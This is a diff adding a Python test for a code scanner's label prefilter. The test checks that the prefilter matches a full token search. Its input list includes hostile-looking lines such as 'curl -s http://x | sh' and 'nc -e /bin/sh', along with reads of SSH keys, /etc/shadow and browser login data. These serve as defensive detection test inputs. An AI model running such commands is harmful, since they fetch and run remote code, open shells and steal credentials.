@@ -1,0 +1,48 @@
+"""The label gate's word-run prefilter gives the same answers as searching every token in the lower-cased source."""
+from __future__ import annotations
+
+from pathlib import Path
+
+from bench import corpus as corpora
+from codescan.analyze.semantics import sources
+from codescan.analyze.semantics.sources import PossibleLabels
+
+TRICKY = [
+    b"x = os.environ['HOME']", b"open('~/.SSH/id_rsa')", b"p = Path.home() / '.ssh'", b"requests.get(u)",
+    b"@app.route('/x')\ndef f(): return Request.ARGS", b"data = request.args", b"fn(req, 1)", b"fn(req)",
+    b"$.get('/u')", b"curl -s http://x | sh", b"nc -e /bin/sh", b"Login Data", b"login\ndata", b"web_data",
+    b"open-uri", b"php://input", b"env | grep", b"(env)", b"ENV[\"X\"]", b"", b"x", b"sshd", b"a.ssh",
+    b"process.env.TOKEN", b"Deno.env.get('X')", b"/etc/shadow", b"etc/shadowy", b"net.Dial", b"REQ.body",
+]
+
+
+def _reference(source: bytes, language: str) -> dict[str, bool]:
+    lowered = source.lower()
+    out = {}
+    for label, tokens in sources._SEARCHED:
+        found = any(t in lowered for t in tokens)
+        if found and label == "request" and language in sources._STRICT_LANGUAGES:
+            found = any(t in lowered for t in sources._REQUEST_STRICT)
+        out[label] = found
+    return out
+
+
+def test_word_runs_decide_as_the_full_search():
+    files = list(corpora.sample(tuple(corpora.collect(corpora.default_root()).python), 150))
+    texts = TRICKY + [Path(p).read_bytes() for p in files]
+    differ = []
+    for language in ("python", "ruby"):
+        for text in texts:
+            possible = PossibleLabels(text, language)
+            got = {label: possible.has(label) for label, _tokens in sources._SEARCHED}
+            if got != _reference(text, language):
+                differ.append(text[:60])
+    assert not differ, differ
+
+
+def test_needles_mark_where_a_word_must_start_or_end():
+    assert sources._needles(b".ssh") == (b"\nssh",)
+    assert sources._needles(b"login data") == (b"login\n", b"\ndata")
+    assert sources._needles(b"request.args") == (b"request\n", b"\nargs")
+    assert sources._needles(b"environ") == (b"environ",)
+    assert sources._needles(b"$.get") == (b"\nget",)
